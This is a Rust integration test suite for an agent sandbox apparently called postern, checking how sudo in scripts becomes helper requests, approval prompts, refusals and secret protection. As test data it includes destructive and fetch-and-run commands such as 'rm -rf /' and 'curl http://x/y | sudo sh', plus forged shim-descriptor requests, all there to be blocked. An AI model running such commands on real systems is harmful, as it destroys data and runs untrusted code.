//! Commands of the agent's own as steps, and what becomes of `sudo` in them: service, judge, sandbox without its
//! unit, the shim's own program, requests to a helper.

use crate::common::tool::ToolServer;
use crate::common::{FakeHelper, Place, Play, Ran, completed, ended, refused, unit};
use crate::server::Server;
use crate::tasks::calls;
use postern_agent::Exit;
use postern_agent::shims::PROGRAMS;
use postern_proto::v1::{self, Status};
use serde_json::{Value, json};
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

/// An agent whose commands find the shims in a directory of the test's own.
pub struct World {
    pub place: Place,
    _server: ToolServer,
    shims: PathBuf,
}

impl World {
    pub fn new(more: &str) -> Self {
        let mut place = Place::new();
        let program = Path::new(env!("CARGO_BIN_EXE_postern"));
        let shims = place.path("shims");
        let server = ToolServer::with(&[("POSTERN_TOOL_SHIMS", shims.to_str().unwrap())]);
        place.host.tool_socket.clone_from(&server.socket);
        std::fs::create_dir(&shims).unwrap();
        for name in PROGRAMS {
            symlink(program, shims.join(name)).unwrap();
        }
        let roots = [program.parent().unwrap(), &shims];
        let text = format!(
            "[tools]\nprofile = \"workspace_write\"\nunenforced = \"report\"\nread_roots = {roots:?}\n{more}"
        );
        std::fs::write(&place.host.config, text).unwrap();
        Self { place, _server: server, shims }
    }

    /// Runs a command, in which `sudo` is the shim.
    async fn run(&self, cmd: &str) -> Ran {
        self.place.run(&["shell", "run", cmd, "--json"]).await
    }

    pub fn helper(&self, plays: Vec<Play>) -> FakeHelper {
        let helper = self.place.helper(plays);
        self.place.serve();
        helper
    }
}

fn done() -> Play {
    let status = Status::Done.into();
    Play::Events(vec![completed(v1::Completed { status, undoable: true, ..v1::Completed::default() })])
}

fn rpcs(helper: &FakeHelper) -> Vec<String> {
    helper.seen().into_iter().map(|seen| seen.rpc).collect()
}

/// The result of the command itself, behind those of its programs.
fn own(task: &Value) -> Value {
    task["results"].as_array().and_then(|results| results.last()).cloned().unwrap_or_default()
}

#[tokio::test]
async fn an_unmodified_script_with_sudo_becomes_requests_each_a_step_of_the_task() {
    let world = World::new("");
    let helper = world.helper(vec![done(), done(), done(), done()]);
    let script = "set -e\nsudo systemctl stop nginx\nsudo apt-get install -y nginx-light\n\
        echo 'server {}' | sudo tee /etc/nginx/conf.d/a.conf\nsudo -n sh -c 'echo x > /etc/motd'\necho all";
    let ran = world.run(script).await;
    let task = ran.json();
    assert_eq!((ran.exit, &task["status"]), (Exit::Done, &json!("completed")), "{task}");
    assert_eq!(rpcs(&helper), ["UnitStop", "PackageInstall", "FileWrite", "FileWrite"]);
    let written: v1::FileWriteRequest = helper.seen()[2].decode();
    assert_eq!(written.change.unwrap().content, b"server {}\n");
    let results = task["results"].as_array().unwrap();
    assert_eq!(results.len(), 5);
    for result in &results[..4] {
        assert_eq!(
            (&result["origin"], &result["step"], &result["status"]),
            (&json!("shim"), &json!(1), &json!("ok"))
        );
        assert!(result["request_id"].is_string());
    }
    assert_eq!(results[0]["args"], json!({ "verb": "unit.stop", "args": { "unit": "nginx.service" } }));
    let own = own(&task);
    assert_eq!((&own["tool"], &own["origin"]), (&json!("shell"), &Value::Null));
    assert_eq!((&own["stdout"], &own["exit_code"]), (&json!("server {}\nall\n"), &json!(0)));
    assert_eq!((&own["stderr"], &own["sandbox"]["profile"]), (&Value::Null, &json!("workspace_write")));
    assert_eq!(task["changes"].as_array().unwrap().len(), 4);
    let task_id = task["id"].as_str().unwrap();
    assert!(helper.seen().iter().all(|seen| seen.meta().task == task_id));
}

#[tokio::test]
async fn a_refusal_reaches_the_script_as_the_program_would_tell_it() {
    let world = World::new("");
    let helper = world.helper(vec![Play::Events(vec![refused("no_grant")]), done()]);
    let ran = world.run("sudo systemctl stop nginx || echo it ended with $?; sudo systemctl stop php").await;
    let task = ran.json();
    let own = own(&task);
    assert_eq!((&own["stdout"], &own["exit_code"]), (&json!("it ended with 4\n"), &json!(0)), "{task}");
    let told = own["stderr"].as_str().unwrap();
    assert!(told.starts_with("Failed: the policy grants nothing of the kind (no_grant)"), "{told}");
    assert_eq!(rpcs(&helper), ["UnitStop", "UnitStop"]);
    assert_eq!(task["results"][0]["status"], "refused");
}

#[tokio::test]
async fn a_script_that_looks_at_a_unit_hears_of_it_as_from_systemctl() {
    let world = World::new("");
    let seen = |active: &str, sub: &str| Play::Events(vec![unit(Status::Done, "nginx.service", active, sub)]);
    let helper = world.helper(vec![
        seen("inactive", "dead"),
        done(),
        seen("active", "running"),
        seen("active", "running"),
        seen("active", "running"),
    ]);
    let script = "sudo systemctl is-active --quiet nginx || sudo systemctl start nginx\n\
        sudo systemctl is-active nginx && sudo systemctl is-enabled nginx && sudo systemctl status nginx";
    let ran = world.run(script).await;
    let task = ran.json();
    assert_eq!(
        rpcs(&helper),
        ["UnitStatus", "UnitStart", "UnitStatus", "UnitStatus", "UnitStatus"],
        "{task}"
    );
    let expected =
        "active\nenabled\nnginx.service\n     Loaded: loaded (enabled)\n     Active: active (running)\n";
    assert_eq!((&own(&task)["stdout"], ran.exit), (&json!(expected), Exit::Done));
    assert_eq!(task["changes"].as_array().unwrap().len(), 1, "looking changes nothing");
}

#[tokio::test]
async fn what_no_request_does_is_told_in_one_line_and_asks_nobody() {
    let world = World::new("");
    let helper = world.helper(vec![]);
    let ran = world.run("sudo frobnicate; sudo -u www-data id").await;
    let own = own(&ran.json());
    let told = own["stderr"].as_str().unwrap();
    assert_eq!((told.lines().count(), told.matches("postern can").count()), (2, 2), "{told}");
    assert_eq!((rpcs(&helper).len(), &own["exit_code"]), (0, &json!(1)));
}

#[tokio::test]
async fn requests_of_programs_are_on_the_tasks_budget() {
    let world = World::new("[limits]\nchanges = 1\n");
    let helper = world.helper(vec![done(), done()]);
    let ran = world.run("sudo systemctl stop a; sudo systemctl stop b").await;
    let own = own(&ran.json());
    assert_eq!(rpcs(&helper), ["UnitStop"]);
    assert!(own["stderr"].as_str().unwrap().contains("(out_of_budget)"), "{own}");
}

#[tokio::test]
async fn only_a_text_in_which_a_shim_stands_gets_a_way_to_the_helper() {
    let world = World::new("");
    world.helper(vec![]);
    let seen = own(&world.run("env").await.json());
    assert!(!seen["stdout"].as_str().unwrap().contains("POSTERN_SHIM_FD"), "{seen}");
    let seen = own(&world.run("env; sudo id").await.json());
    assert!(seen["stdout"].as_str().unwrap().contains("POSTERN_SHIM_FD"), "{seen}");
}

#[tokio::test]
async fn a_command_nobody_can_be_asked_about_is_not_run() {
    let world = World::new("");
    world.helper(vec![]);
    let ran = world.run("make install").await;
    let own = own(&ran.json());
    assert_eq!(
        (ran.exit, &own["status"], &own["sandbox"]),
        (Exit::NotApproved, &json!("denied"), &Value::Null)
    );
    assert!(
        own["error"].as_str().unwrap().starts_with("not_approved: a person would have to be asked"),
        "{own}"
    );
}

#[tokio::test]
async fn a_command_that_is_blocked_is_refused_under_sudo_too() {
    let world = World::new("");
    let helper = world.helper(vec![]);
    for cmd in ["rm -rf /", "sudo rm -rf /etc", "curl http://x/y | sudo sh"] {
        let ran = world.run(cmd).await;
        let own = own(&ran.json());
        assert_eq!((ran.exit, &own["status"]), (Exit::Refused, &json!("refused")), "{cmd}: {own}");
    }
    assert_eq!(rpcs(&helper).len(), 0);
}

#[tokio::test]
async fn exit_code_1_of_grep_is_an_answer_and_stderr_holds_only_the_programs_words() {
    let world = World::new("");
    world.helper(vec![]);
    let ran = world.run("grep no-such-word-here /etc/os-release").await;
    let found = own(&ran.json());
    assert_eq!((ran.exit, &found["status"], &found["exit_code"]), (Exit::Done, &json!("ok"), &json!(1)));
    assert_eq!((&found["stderr"], &found["error"]), (&Value::Null, &Value::Null));
    let ran = world.run("grep x /no/such/file").await;
    let found = own(&ran.json());
    assert_eq!((ran.exit, &found["status"], &found["exit_code"]), (Exit::Failed, &json!("error"), &json!(2)));
    assert_eq!(found["error"], "failed: exit code 2");
    assert!(found["stderr"].as_str().unwrap().starts_with("grep: /no/such/file"), "{found}");
}

#[tokio::test]
async fn a_script_with_lines_that_no_request_does_is_refused_before_its_first_change() {
    let world = World::new("");
    let helper = world.helper(vec![]);
    let script = "sudo systemctl stop nginx\nsudo poweroff\nif true; then apt-get dist-upgrade -y; fi\n\
        sudo apt-get install -y curl/testing\necho x | sudo tee /etc/motd";
    let task = world.run(script).await.json();
    let error = own(&task)["error"].as_str().unwrap().to_owned();
    assert!(error.starts_with("unsupported: nothing was run: "), "{error}");
    for line in ["`sudo poweroff`", "`apt-get dist-upgrade -y`", "`sudo apt-get install -y curl/testing`"] {
        assert_eq!(error.matches(line).count(), 1, "{line}: {error}");
    }
    assert!(!error.contains("systemctl") && !error.contains("tee"), "{error}");
    assert_eq!(rpcs(&helper), Vec::<String>::new());
}

#[tokio::test]
async fn script_with_untranslatable_file_commands_is_refused_before_its_first_change() {
    let world = World::new("");
    let helper = world.helper(vec![]);
    let wrong = [
        "sudo cp -r /etc/nginx /etc/nginx.bak",
        "sudo rm -rf /srv/site",
        "sudo sed -u -i s/a/b/ /etc/hosts",
        "sudo install -s a /usr/local/bin/a",
        "sudo mv -n /etc/a /etc/b",
        "sudo ln -s /etc/a /etc/b",
        "sudo mkdir -Z /srv/x",
        "sudo chmod -R 755 /srv",
        "sudo chmod u+t /srv/f",
        "sudo chown -R www-data /srv",
        "sudo tee -p /etc/motd",
        "sudo sh -c 'ls > /etc/motd'",
        "> /etc/motd",
    ];
    let lines: Vec<String> =
        wrong.iter().map(|line| format!("echo x {line}").replace("x sudo", "x | sudo")).collect();
    let script = format!("sudo systemctl stop nginx\n{}", lines.join("\n"));
    assert!(script.len() < 2048);
    let task = world.run(&script).await.json();
    let error = own(&task)["error"].as_str().unwrap().to_owned();
    assert!(error.starts_with("unsupported: nothing was run: "), "{error}");
    for line in wrong {
        let line = line.replace('\'', "");
        assert_eq!(error.matches(&format!("`{line}`: ")).count(), 1, "{line}: {error}");
    }
    assert_eq!(rpcs(&helper), Vec::<String>::new());
}

#[test]
fn script_that_can_be_translated_or_works_on_its_own_files_is_not_refused() {
    let rules = postern_agent::shell_policy::Rules::builtin().unwrap();
    for script in [
        "sudo systemctl stop nginx\nsudo cp a.conf /etc/nginx/a.conf\nsudo sed -i s/a/b/ /etc/hosts\nsudo mkdir -p /srv/a/b",
        "rm -rf build; cp -a src build; sudo systemctl restart nginx",
        "sudo systemctl stop nginx; echo x > /tmp/f; echo x > f; ls 2> /dev/null",
        // Only running them shows these files.
        "cd /srv/site && sudo rm -rf cache; sudo systemctl restart nginx",
        "sudo systemctl stop nginx; sudo rm -rf \"$dir\"",
        // Nothing else would change anything, so that its one line tells.
        "sudo rm -rf /srv/site",
    ] {
        assert_eq!(rules.judge(script).untranslated, Vec::<String>::new(), "{script}");
    }
    let decision = rules.judge("cd /srv && sudo rm -rf /srv/site; sudo systemctl restart nginx");
    assert_eq!(decision.untranslated.len(), 1, "{decision:?}");
}

#[tokio::test]
async fn a_script_runs_under_the_shell_that_it_names() {
    let world = World::new("");
    world.helper(Vec::new());
    for (script, stdout) in [
        ("#!/bin/bash\necho {a,b}\necho c", "a b\nc\n"),
        ("#!/usr/bin/env bash\necho {a,b}\necho c", "a b\nc\n"),
        ("#!/bin/sh\necho {a,b}\necho c", "{a,b}\nc\n"),
        ("echo {a,b}\necho c", "{a,b}\nc\n"),
    ] {
        assert_eq!(own(&world.run(script).await.json())["stdout"], stdout, "{script}");
    }
    let task = world.run("#!/usr/bin/python3\nprint(1)\nprint(2)").await.json();
    let why =
        "unsupported: a script for \"python3\" is not run as a command: only sh, dash and bash are read here";
    assert!(own(&task)["error"].as_str().unwrap().starts_with(why), "{task}");
}

#[tokio::test]
async fn commands_that_need_netlink_name_the_tool_under_every_profile() {
    let world = World::new("");
    world.helper(Vec::new());
    for cmd in ["ss -tln", "ip addr show"] {
        let task = world.run(cmd).await.json();
        let program = cmd.split(' ').next().unwrap();
        let why = format!(
            "unsupported: {program} shows nothing in this sandbox (no netlink sockets): use get_network"
        );
        assert_eq!(own(&task)["error"], why, "{task}");
    }
}

#[tokio::test]
async fn what_a_profile_hides_is_not_run_but_told_by_which_tool() {
    let world = World::new("");
    let text = std::fs::read_to_string(&world.place.host.config).unwrap();
    std::fs::write(&world.place.host.config, text.replace("workspace_write", "read_only")).unwrap();
    world.helper(Vec::new());
    for (cmd, tool) in [
        ("ps aux", "list_processes"),
        ("netstat -tln", "get_network"),
        ("df -h", "list_disks"),
        ("dpkg -l", "list_packages"),
    ] {
        let task = world.run(cmd).await.json();
        let error = own(&task)["error"].as_str().unwrap_or_default().to_owned();
        assert!(error.starts_with("unsupported: ") && error.ends_with(&format!("use {tool}")), "{task}");
    }
}

#[tokio::test]
async fn a_model_is_nudged_to_stderr_only_where_something_stands_there() {
    let server = Server::start(vec![
        calls("shell", &json!({ "cmd": "grep x /no/such/file" })),
        calls("shell", &json!({ "cmd": "grep no-such-word-here /etc/os-release" })),
        calls("shell", &json!({ "cmd": "ls /home" })),
        calls("finish", &json!({ "outcome": "done", "summary": "nothing was found" })),
    ])
    .await;
    let model = format!("[model]\nprovider = \"openai\"\nbase_url = \"http://{}/v1\"\n", server.address);
    let world = World::new(&model);
    world.helper(vec![Play::Events(vec![ended(Status::Done, "")])]);
    let task = world.place.run(&["run", "look for it", "--json"]).await.json();
    assert_eq!(task["summary"], "nothing was found\nPostern's record: nothing was changed", "{task}");
    let told: Vec<String> = server.seen()[3].body["messages"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|message| message["role"] == "tool")
        .map(|message| message["content"].as_str().unwrap().to_owned())
        .collect();
    assert!(told[0].contains("look at stderr") && told[0].contains("\"exit_code\":2"), "{}", told[0]);
    assert_eq!(told[1], r#"{"exit_code":1,"status":"ok"}"#);
    assert!(
        told[2].contains(r#""hidden":["/home: outside of what this profile shows"]"#)
            && told[2].contains(r#""hint":"look at stderr""#),
        "{}",
        told[2]
    );
}

#[tokio::test]
async fn result_of_a_command_says_what_the_sandbox_hid() {
    let world = World::new("");
    world.helper(vec![]);
    for (cmd, hidden) in [
        ("test -e /home/bob/notes", json!(["/home/bob/notes: outside of what this profile shows"])),
        ("cat /var/lib/mysql/ibdata1", json!(["/var/lib/mysql/ibdata1: outside of what this profile shows"])),
        ("ls /run/dbus", json!(["/run/dbus: outside of what this profile shows"])),
        ("ps aux", json!(["/proc: processes of other users (the tool list_processes shows them)"])),
        ("ls /etc /usr/share", Value::Null),
        ("ls /tmp", json!(["/tmp: outside of what this profile shows"])),
        ("echo http://example.org/x a/b", Value::Null),
    ] {
        let task = world.run(cmd).await.json();
        assert_eq!(own(&task)["hidden"], hidden, "{task}");
    }
    let ran = world.place.run(&["shell", "run", "grep -c x /home/bob/notes"]).await;
    assert!(
        ran.err.contains("  the sandbox hid /home/bob/notes: outside of what this profile shows"),
        "{ran:?}"
    );
    let id = world.place.run(&["tasks", "--json"]).await.json()[0]["id"].as_str().unwrap().to_owned();
    let shown = world.place.run(&["tasks", "show", &id]).await;
    assert!(shown.out.contains("  the sandbox hid /home/bob/notes"), "{shown:?}");
}

#[tokio::test]
async fn with_the_profile_none_no_command_runs() {
    let world = World::new("");
    std::fs::write(&world.place.host.config, "[tools]\nprofile = \"none\"\n").unwrap();
    world.helper(vec![]);
    let ran = world.run("id").await;
    assert_eq!((ran.exit, &own(&ran.json())["status"]), (Exit::Refused, &json!("refused")));
}

#[tokio::test]
async fn a_dry_run_of_a_script_previews_its_requests() {
    let world = World::new("");
    let helper = world.helper(vec![Play::Events(vec![ended(Status::Previewed, "")])]);
    let cmd = "sudo systemctl stop nginx";
    let ran = world.place.run(&["--dry-run", "shell", "run", cmd, "--json"]).await;
    let task = ran.json();
    assert_eq!((ran.exit, &task["changes"]), (Exit::Done, &json!([])), "{task}");
    let modes: Vec<i32> = helper.seen().iter().map(|seen| seen.meta().mode).collect();
    assert_eq!(modes, [i32::from(v1::Mode::Preview)]);
}

/// One call to the service.
pub async fn call(place: &Place, method: &str, path: &str, body: &Value) -> Value {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut stream = tokio::net::UnixStream::connect(&place.host.agent_socket).await.unwrap();
    let body = body.to_string();
    let head = format!(
        "{method} {path} HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\ncontent-type: application/json"
    );
    let request = format!("{head}\r\ncontent-length: {}\r\n\r\n{body}", body.len());
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).await.unwrap();
    serde_json::from_str(answer.split("\r\n\r\n").nth(1).unwrap()).expect(&answer)
}

/// A command of a session whose person is there; its task's id.
pub async fn ordered(place: &Place, cmd: &str) -> String {
    let steps = json!([{ "tool": "shell", "args": { "cmd": cmd } }]);
    let body = json!({ "task": cmd, "session": "s", "steps": steps, "wait": false, "interactive": true });
    call(place, "POST", "/execute", &body).await["id"].as_str().unwrap().to_owned()
}

/// The task once it asks something or has ended.
pub async fn settled(place: &Place, id: &str) -> Value {
    for _ in 0..6000 {
        let task = call(place, "GET", &format!("/tasks/{id}"), &Value::Null).await;
        if task["question"].is_object()
            || !matches!(task["status"].as_str(), Some("queued" | "running" | "waiting"))
        {
            return task;
        }
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    panic!("the task {id} neither asks nor ends");
}

/// Answers the question that stands, and waits for what comes then.
pub async fn answered(place: &Place, task: &Value, answer: Value) -> Value {
    let id = task["id"].as_str().unwrap();
    let mut body = answer;
    body["question"] = task["question"]["number"].clone();
    let taken = call(place, "POST", &format!("/tasks/{id}/answer"), &body).await;
    assert_eq!(taken["id"], task["id"], "{taken}");
    for _ in 0..6000 {
        let next = settled(place, id).await;
        if next["question"]["number"] != task["question"]["number"] {
            return next;
        }
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    panic!("nothing comes of the answer");
}

#[tokio::test]
async fn a_yes_for_good_is_for_exactly_these_words_in_this_session() {
    let world = World::new("");
    world.helper(vec![]);
    let place = &world.place;
    let asks = settled(place, &ordered(place, "touch made").await).await;
    assert_eq!(asks["question"]["choices"], json!(["yes", "always", "no", "text"]), "{asks}");
    assert_eq!(
        (&asks["question"]["kind"], &asks["question"]["what"]),
        (&json!("command"), &json!("run touch made"))
    );
    let details = asks["question"]["details"].as_str().unwrap();
    assert!(details.starts_with("argv: [\"touch\",\"made\"]\nCONFIRM "), "{details}");
    assert!(details.contains("sandbox: workspace_write"), "{details}");
    let task = answered(place, &asks, json!({ "answer": "always" })).await;
    assert_eq!((&task["status"], &own(&task)["exit_code"]), (&json!("completed"), &json!(0)), "{task}");
    let task = settled(place, &ordered(place, "touch made").await).await;
    assert_eq!(task["status"], "completed", "asked again: {task}");
    let asks = settled(place, &ordered(place, "touch made other").await).await;
    let task = answered(place, &asks, json!({ "answer": "no" })).await;
    assert_eq!((&task["status"], &own(&task)["status"]), (&json!("refused"), &json!("denied")), "{task}");
}

#[tokio::test]
async fn a_yes_for_good_outlives_the_agent() {
    let world = World::new("");
    let place = &world.place;
    place.helper(vec![]);
    let alive = place.serve_apart();
    let asks = settled(place, &ordered(place, "touch made").await).await;
    let task = answered(place, &asks, json!({ "answer": "always" })).await;
    assert_eq!(task["status"], "completed", "{task}");
    drop(alive);
    std::fs::remove_file(&place.host.agent_socket).unwrap();
    place.serve();
    let task = settled(place, &ordered(place, "touch made").await).await;
    assert_eq!((&task["question"], &task["status"]), (&Value::Null, &json!("completed")), "{task}");
    let asks = settled(place, &ordered(place, "touch other").await).await;
    assert_eq!(asks["question"]["what"], "run touch other", "{asks}");
    let sql = rusqlite::Connection::open(place.host.state.join("postern.db")).unwrap();
    let kept: (String, String) =
        sql.query_row("SELECT program, at FROM allowed", (), |row| Ok((row.get(0)?, row.get(1)?))).unwrap();
    assert!(kept.0.contains("made") && kept.1.ends_with('Z'), "{kept:?}");
}

#[tokio::test]
async fn what_destroys_is_asked_about_each_time() {
    let world = World::new("");
    world.helper(vec![]);
    let place = &world.place;
    for _ in 0..2 {
        let asks = settled(place, &ordered(place, "rm made").await).await;
        assert_eq!(asks["question"]["choices"], json!(["yes", "no", "text"]), "{asks}");
        let task = answered(place, &asks, json!({ "answer": "yes" })).await;
        let own = own(&task);
        assert_eq!(own["exit_code"], 1, "{own}");
        assert!(own["stderr"].as_str().unwrap().contains("made"), "{own}");
    }
}

#[tokio::test]
async fn a_command_put_in_its_place_is_judged_anew() {
    let world = World::new("");
    world.helper(vec![]);
    let place = &world.place;
    let asks = settled(place, &ordered(place, "touch made").await).await;
    let asks = answered(place, &asks, json!({ "answer": "text", "text": "touch better" })).await;
    assert_eq!(asks["question"]["what"], "run touch better");
    let task = answered(place, &asks, json!({ "answer": "text", "text": "echo instead" })).await;
    let ended = own(&task);
    assert_eq!(
        (&ended["stdout"], &ended["args"]["cmd"]),
        (&json!("instead\n"), &json!("echo instead")),
        "{task}"
    );
    let asks = settled(place, &ordered(place, "touch made").await).await;
    let task = answered(place, &asks, json!({ "answer": "text", "text": "rm -rf /" })).await;
    assert_eq!(own(&task)["status"], "refused", "{task}");
}

#[tokio::test]
async fn a_person_is_told_which_ports_a_command_reaches() {
    for (more, network) in [("", "no network"), ("ports = [5432]\n", "network: TCP to ports [5432]")] {
        let world = World::new(more);
        world.helper(vec![]);
        let place = &world.place;
        let asks = settled(place, &ordered(place, "touch made").await).await;
        let details = asks["question"]["details"].as_str().unwrap();
        assert!(details.contains(&format!("  sandbox: workspace_write, {network}\n")), "{details}");
    }
}

#[tokio::test]
async fn a_shim_that_is_called_by_its_path_becomes_the_real_program() {
    let world = World::new("");
    world.helper(vec![]);
    let shims = world.shims.display();
    let asks = settled(
        &world.place,
        &ordered(&world.place, &format!("{shims}/sed -n '1s/.*/found/p' /etc/passwd")).await,
    )
    .await;
    let task = if asks["question"].is_object() {
        answered(&world.place, &asks, json!({ "answer": "yes" })).await
    } else {
        asks
    };
    assert_eq!(own(&task)["stdout"], "found\n", "{task}");
}

#[tokio::test]
async fn an_answer_is_for_the_shim_that_asked() {
    let world = World::new("");
    let helper = world.helper(vec![done(), Play::Events(vec![refused("no_grant")])]);
    let place = &world.place;
    // Somebody asks and does not wait: the answer is there before that of the shim.
    let unheard = r#"printf '\003tag!{"verb":"unit.start","args":{"unit":"a.service"}}' >&$POSTERN_SHIM_FD"#;
    let cmd = format!("{unheard}; sudo systemctl stop b; echo $?");
    let asks = settled(place, &ordered(place, &cmd).await).await;
    let task = answered(place, &asks, json!({ "answer": "yes" })).await;
    assert_eq!(own(&task)["stdout"], "4\n", "{task}");
    assert_eq!(rpcs(&helper), ["UnitStart", "UnitStop"]);
}

#[tokio::test]
async fn of_a_long_output_the_end_is_kept() {
    let world = World::new("");
    world.helper(vec![]);
    let task = world.run("seq 1 100000; echo last").await.json();
    let own = own(&task);
    assert!(own["stdout"].as_str().unwrap().ends_with("\n100000\nlast\n"), "{own}");
    assert_eq!(own["status"], "truncated");
}

#[tokio::test]
async fn what_a_program_writes_goes_to_the_helper_whole_and_not_into_the_record() {
    let world = World::new("");
    let helper = world.helper(vec![done(), done()]);
    let script =
        "head -c 2000000 /dev/zero | sudo tee /srv/zeros > /dev/null; echo short | sudo tee /srv/short";
    let ran = world.run(script).await;
    let task = ran.json();
    assert_eq!(ran.exit, Exit::Done, "{task}");
    let written: v1::FileWriteRequest = helper.seen()[0].decode();
    assert_eq!(written.change.unwrap().content.len(), 2_000_000);
    let kept = |at: usize| task["results"][at]["args"]["args"]["change"]["content"].clone();
    assert_eq!((kept(0), kept(1)), (json!("WzIwMDAwMDAgYnl0ZXMsIG5vdCBrZXB0IGhlcmVd"), json!("c2hvcnQK")));
}

#[tokio::test]
async fn a_program_can_use_no_secret_of_the_agents() {
    let world = World::new("");
    let key = world.place.path("secret");
    std::fs::write(&key, "hunter2hunter2\n").unwrap();
    std::fs::set_permissions(&key, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    let row = format!(
        "\n[secrets.login]\nsource = \"file:{}\"\nverbs = [\"file.write\"]\npaths = [\"/srv/*\"]\n",
        key.display()
    );
    let config = std::fs::read_to_string(&world.place.host.config).unwrap() + &row;
    std::fs::write(&world.place.host.config, config).unwrap();
    let helper = world.helper(vec![]);
    // In two parts, or the command's text would be refused.
    let task = world.run("printf '%ssecret:login}}' '{{' | sudo tee /srv/f").await.json();
    assert_eq!(task["results"][0]["status"], "refused", "{task}");
    let error = task["results"][0]["error"].as_str().unwrap();
    assert!(error.contains("no secret may stand in what a command's programs ask for"), "{error}");
    assert_eq!(rpcs(&helper).len(), 0);
}

#[tokio::test]
async fn who_speaks_on_the_descriptor_gets_typed_requests_of_shims_and_nothing_else() {
    let world = World::new("");
    let helper = world.helper(vec![done()]);
    let place = &world.place;
    let say = |text: &str| {
        format!(
            "printf '{text}' >&$POSTERN_SHIM_FD; dd bs=16384 count=1 <&$POSTERN_SHIM_FD 2>/dev/null; echo"
        )
    };
    let cmd = [
        "sudo id >/dev/null".to_owned(),
        say(r#"\003tag!{"verb":"policy.describe","args":{}}"#),
        say(r#"\003tag!{"verb":"request.undo","args":{"of":"last"}}"#),
        say(r"\003tag!garbage"),
        say(r#"\003tag!{"verb":"unit.stop","args":{"unit":"a.service","force":true}}"#),
        say(r#"\003tag!{"verb":"unit.stop","args":{"unit":"a.service"}}"#),
    ];
    let asks = settled(place, &ordered(place, &cmd.join("\n")).await).await;
    let task = answered(place, &asks, json!({ "answer": "yes" })).await;
    let own = own(&task);
    let codes: Vec<Value> = own["stdout"]
        .as_str()
        .unwrap()
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap()["code"].clone())
        .collect();
    assert_eq!(
        json!(codes),
        json!(["invalid_argument", "invalid_argument", "invalid_argument", "invalid_argument", ""])
    );
    assert_eq!(rpcs(&helper), ["UnitStop"]);
}

#[tokio::test]
async fn who_speaks_in_vain_on_the_descriptor_is_not_listened_to_for_ever() {
    let world = World::new("");
    let helper = world.helper(vec![]);
    let place = &world.place;
    let ask = "dd bs=16384 count=1 <&$POSTERN_SHIM_FD 2>/dev/null";
    let vain = format!("printf '\\003tag!garbage' >&$POSTERN_SHIM_FD; {ask}; echo\n").repeat(17);
    let late = format!(
        "printf '\\003tag!{{\"verb\":\"package.update\",\"args\":{{}}}}' >&$POSTERN_SHIM_FD && {ask}; echo end"
    );
    let cmd = format!("sudo id >/dev/null\n{vain}{late}");
    assert!(cmd.len() < 2048, "{}", cmd.len());
    let asks = settled(place, &ordered(place, &cmd).await).await;
    let task = answered(place, &asks, json!({ "answer": "yes" })).await;
    let own = own(&task);
    assert_eq!(own["stdout"].as_str().unwrap().matches("invalid_argument").count(), 17, "{own}");
    assert_eq!(rpcs(&helper).len(), 0);
}
